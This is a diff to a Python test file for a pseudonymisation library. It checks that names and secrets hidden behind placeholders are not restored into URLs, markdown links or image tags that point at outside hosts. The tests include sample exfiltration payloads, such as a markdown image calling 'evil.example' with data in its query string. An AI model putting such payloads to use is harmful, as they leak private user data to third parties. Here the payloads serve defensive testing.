@@ -22,7 +22,10 @@ ORIGINALS = {
     "EMAIL_ADDRESS_1": "jane@acme.example",
 }
 MAP = PseudonymMap(ORIGINALS)
-KNOWING = PseudonymMap(ORIGINALS, addresses=frozenset({"//x.example/?d=PERSON_1", "//x.example/?s=SECRET_1"}))
+KNOWING = PseudonymMap(
+    ORIGINALS,
+    addresses=frozenset({"//x.example/?d=PERSON_1", "//x.example/?s=SECRET_1", "//x.example/<PERSON_1>/<PERSON_1"}),
+)
 
 LEAVING = [
     "![x](https://evil.example/p?d=@)",
@@ -263,7 +266,7 @@ def test_a_reply_that_should_be_json_and_is_none_is_read_as_text() -> None:
 FRAGMENTS = [
     *("PERSON_1", "SECRET_1", "URL_1", "[PERSON_1]", "<PERSON_1>", "https:", "//", "/", "\\", ":", "x.example", "?d="),
     *("](", ")", "(", "[", "]", "<a ", "href=", '"', "'", "<", ">", "=", "www.", ".", " ", "\n", "a", "\\u002f", "{"),
-    *("see https://x.example/?d=PERSON_1", "https://x.example/?s=SECRET_1"),
+    *("see https://x.example/?d=PERSON_1", "https://x.example/?s=SECRET_1", "//x.example/<PERSON_1>/", "/<PERSON_1"),
 ]
 PIECES = st.lists(st.sampled_from(FRAGMENTS), max_size=16).map("".join)
 
@@ -303,6 +306,23 @@ def test_what_a_request_holds_comes_back_in_its_echo() -> None:
     outcome = run("Jane: https://x.example/Jane?to=Bob and acme/Jane", ("PERSON", "Jane"), ("PERSON", "Bob"))
     assert "Bob" not in outcome.sent
     assert outcome.echoed == outcome.text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "see https://x.example/?d=<Jane>&e=<Jane now",
+        "mailto:<Jane>?subject=x",
+        "<a href=https://x.example/?d=<Jane>>x</a>",
+        "see https://x.example/{Jane}/[Jane]/<<Jane>>",
+    ],
+)
+def test_an_address_of_the_request_comes_back_with_its_brackets(text: str) -> None:
+    outcome = run(text, ("PERSON", "Jane"))
+    assert "Jane" not in outcome.sent
+    assert outcome.echoed == text
+    pseudonyms = outcome.redacted.pseudonyms
+    assert "Jane" not in restore(outcome.sent.replace("x", "evil"), pseudonyms)
 
 
 FRAGMENTS = st.sampled_from(
